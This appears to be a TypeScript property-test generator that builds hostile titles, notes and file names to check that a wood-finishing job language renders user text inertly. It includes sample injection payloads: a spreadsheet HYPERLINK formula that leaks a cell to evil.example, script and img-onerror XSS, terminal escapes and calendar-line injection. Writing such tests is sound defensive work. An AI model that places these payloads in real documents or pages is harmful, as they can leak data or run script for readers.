/**
 * A small job in which every text that anybody can choose is hostile: titles, notes, documentation, what a step does, a
 * currency, a colour, a comment, a word that the notation does not know, and the names of the files.
 */
import fc from "fast-check";

/** What each target would act on, were it not made inert. */
const FRAGMENTS = [
  '=HYPERLINK("https://evil.example/?"&A1;"x")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  ";=1+1",
  "\t=1+1",
  "\u001b[31m",
  "\u001b]0;title\u0007",
  "\u009b2J",
  "\u0007",
  "\u0000",
  "\u007f",
  "\u202e",
  "\u2066",
  "\u200f",
  "\u061c",
  "\u2028",
  "\u2029",
  "\ud800",
  "![x](https://evil.example/x.png)",
  "[x](https://evil.example/)",
  "[x](command:workbench.action.quit)",
  "<img src=x onerror=alert(1)>",
  "<https://evil.example/>",
  "https://evil.example/",
  "www.evil.example",
  "someone@evil.example",
  "</title><script>alert(1)</script>",
  "&lt;b&gt;",
  "| a | b |",
  "`` ` ```",
  "\\",
  '\\"',
  "**",
  "_x_",
  "~~",
  "$(check)",
  "{0}",
  "# heading",
  "- [x] done",
  "1. one",
  "> quoted",
  "---",
  "===",
  "END:VEVENT",
  "%0d%0aBEGIN:VEVENT",
  "x".repeat(90),
  " ",
  "Walnut",
  "Öl 木",
];

/** A text of one line with some of them in it. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ unit: "binary", maxLength: 6 })), {
    minLength: 1,
    maxLength: 6,
  })
  .map((parts) => parts.join("").replace(/[\r\n]/gu, ""));

/** A file name: nothing that a path may not hold. */
export const hostileName: fc.Arbitrary<string> = fc
  .tuple(hostileText, fc.boolean())
  .map(([text, isBroken]) => `n${isBroken ? "a\nb\r" : ""}${[...text].slice(0, 40).join("")}`)
  .map((text) => text.replace(/[\0/\\*?{}[\]!()"\p{Cs}]/gu, ""));

export interface HostileTexts {
  readonly title: string;
  readonly docs: readonly string[];
  readonly words: string;
}

export const hostileTexts: fc.Arbitrary<HostileTexts> = fc.record({
  title: hostileText,
  docs: fc.array(hostileText, { minLength: 1, maxLength: 3 }),
  words: hostileText,
});

const quoted = (text: string): string => `"${text.replace(/["\\]/gu, "\\$&")}"`;

/** The files of the job, the second one used by the first. */
export function hostileFiles(
  { title, docs, words }: HostileTexts,
  names: { readonly main: string; readonly used: string },
): Readonly<Record<string, string>> {
  const doc = docs.map((line) => `## ${line}`).join("\n");
  const t = quoted(title);
  const w = quoted(words);
  return {
    [names.used]: `${doc}
material gel ${t} {
  family gel stain
  covers 14 m2/L
  recoat 24 h
  cure   72 h
  rated  21 C, 50 % RH
  voc    340 g/L
  colour ${w}
  packs  250 mL for 9.80, 750 mL for 24.50
}
${doc}
material satin ${w} {
  family waterborne polyurethane
  covers 10 m2/L
  recoat 2 h
  cure   21 days
  packs  946 mL for 28.00
}
`,
    [names.main]: `use ${quoted(names.used)}
use ${w}
# ${words}
${doc}
shop mill ${t} {
  air      18 C, 55 % RH
  room     145 m3, 7 air changes/h
  hours    Mon to Fri 09:00 to 17:00
  crew     1
  labour   16.00 per h
  currency ${w}
}
${doc}
piece table ${t} {
  meant_for adults
  ${doc.replaceAll("\n", "\n  ")}
  surface top ${w} {
    shape panel 1800 mm x 900 mm
    wood  red oak
  }
}
${doc}
recipe clear_coat ${t} (stain: material, clear: material) {
  for    wood
  note   ${w}
  step   mask ${w}
  step   inspect ${t}
  step   sand 120
  layer  stain, wiped off
  wait   until cured
  layer  clear x 2, by pad
  step   ${words}
}
${doc}
job tables ${t} {
  piece table x 2
  in    mill
  start 2027-03-08 09:00
  ready 2027-03-09
  apply clear_coat(stain: gel, clear: satin) to all
  ${words}
}
job second ${w} {
  piece table
  in    mill
  start 2027-04-05 09:00
  apply clear_coat(stain: gel, clear: satin) to all
}
`,
  };
}
